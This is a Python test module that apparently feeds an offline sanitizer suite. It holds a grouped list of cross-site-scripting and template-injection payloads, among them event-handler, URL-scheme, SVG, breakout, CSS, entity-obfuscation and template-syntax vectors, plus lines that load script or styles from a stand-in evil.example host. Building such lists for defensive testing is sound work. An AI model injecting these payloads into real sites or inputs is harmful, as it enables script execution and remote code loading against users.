"""Cross-site-scripting and template-injection vectors, grouped by the trick each one plays.

Why a list of our own: the suite must run offline, and each vector here is
chosen for a way an HTML page can be made to run or fetch something: a tag,
an event handler, a URL scheme, an element that breaks out of the one it is
in, CSS, an obfuscation, or template syntax a second renderer might evaluate.
Every vector that could run script calls `alert` or sets the canary
`data-pwned` attribute on the root element, so the browser test sees it.
"""

from __future__ import annotations

CANARY = "document.documentElement.setAttribute('data-pwned','1')"

VECTORS: dict[str, tuple[str, ...]] = {
    "script tags": (
        "<script>alert(1)</script>",
        "<SCRIPT>alert(2)</SCRIPT>",
        "<script src=//evil.example/x.js></script>",
        f"<script>{CANARY}</script>",
        "<scr<script>ipt>alert(3)</scr</script>ipt>",
        "<script type=module>alert(4)</script>",
        "<script\n>alert(5)</script\n>",
    ),
    "event handlers": (
        "<img src=x onerror=alert(6)>",
        "<body onload=alert(7)>",
        "<svg onload=alert(8)>",
        "<details open ontoggle=alert(9)>",
        "<input autofocus onfocus=alert(10)>",
        "<video><source onerror=alert(11)></video>",
        "<div onmouseover=alert(12)>hover me</div>",
        "<marquee onstart=alert(13)>",
        f'<img src=x onerror="{CANARY}">',
        "<select autofocus onfocus=alert(14)>",
        "<audio src=x onerror=alert(15)>",
    ),
    "URL schemes": (
        "javascript:alert(16)",
        '<a href="javascript:alert(17)">click</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxOCk8L3NjcmlwdD4=">data</a>',
        "data:text/html,<script>alert(19)</script>",
        '<iframe src="javascript:alert(20)"></iframe>',
        '<form action="javascript:alert(21)"><button>go</button></form>',
        '<a href="JaVaScRiPt:alert(22)">mixed case</a>',
        '<a href="  javascript:alert(23)">leading space</a>',
        "vbscript:msgbox(24)",
        '<object data="javascript:alert(25)"></object>',
        '<embed src="javascript:alert(26)">',
    ),
    "SVG and MathML": (
        "<svg><script>alert(27)</script></svg>",
        "<svg><animate onbegin=alert(28) attributeName=x dur=1s>",
        '<svg><a xlink:href="javascript:alert(29)"><text x=20 y=20>svg link</text></a></svg>',
        "<svg><foreignObject><img src=x onerror=alert(30)></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(31)>",
        '<math href="javascript:alert(32)">CLICK</math>',
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(33)'/></svg>#x\"/></svg>",
    ),
    "element breakouts": (
        "</style><script>alert(34)</script>",
        "</script><script>alert(35)</script>",
        "</textarea><script>alert(36)</script>",
        "</title><script>alert(37)</script>",
        "--><script>alert(38)</script>",
        "]]><script>alert(39)</script>",
        "</noscript><img src=x onerror=alert(40)>",
        '<!--<img src="--><img src=x onerror=alert(41)//">',
    ),
    "attribute breakouts": (
        '"><script>alert(42)</script>',
        "'><script>alert(43)</script>",
        '" onmouseover="alert(44)',
        "' onfocus='alert(45)' autofocus='",
        "` onmouseover=alert(46) `",
        '" autofocus onfocus=alert(47) x="',
        '"/><svg/onload=alert(48)>',
    ),
    "CSS": (
        "<style>body{background:url(http://evil.example/css)}</style>",
        '<div style="background:url(javascript:alert(49))">css</div>',
        '<div style="width:expression(alert(50))">ie</div>',
        "<style>@import 'http://evil.example/import.css';</style>",
        "red;background:url(http://evil.example/colour)",
        "<link rel=stylesheet href=http://evil.example/link.css>",
    ),
    "srcdoc and frames": (
        '<iframe srcdoc="<script>alert(51)</script>"></iframe>',
        '<iframe srcdoc="&lt;img src=x onerror=alert(52)&gt;"></iframe>',
        "<frameset onload=alert(53)>",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(54)">',
        '<base href="http://evil.example/">',
    ),
    "entity and unicode obfuscation": (
        "&lt;script&gt;alert(55)&lt;/script&gt;",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(56)">entities</a>',
        '<a href="jav&#x09;ascript:alert(57)">tab entity</a>',
        "\uff1cscript\uff1ealert(58)\uff1c/script\uff1e",
        "<img src=x onerror=\\u0061lert(59)>",
        "\u003cscript\u003ealert(60)\u003c/script\u003e",
        '<a href="java\tscript:alert(61)">tab</a>',
        "%3Cscript%3Ealert(62)%3C/script%3E",
        "\u202e<script>alert(63)</script>",
    ),
    "template syntax": (
        "{{7*7}}",
        "${7*7}",
        "{{ config.items() }}",
        "{% for x in range(3) %}loop{% endfor %}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{constructor.constructor('alert(64)')()}}",
    ),
}

ALL_VECTORS: tuple[str, ...] = tuple(vector for group in VECTORS.values() for vector in group)
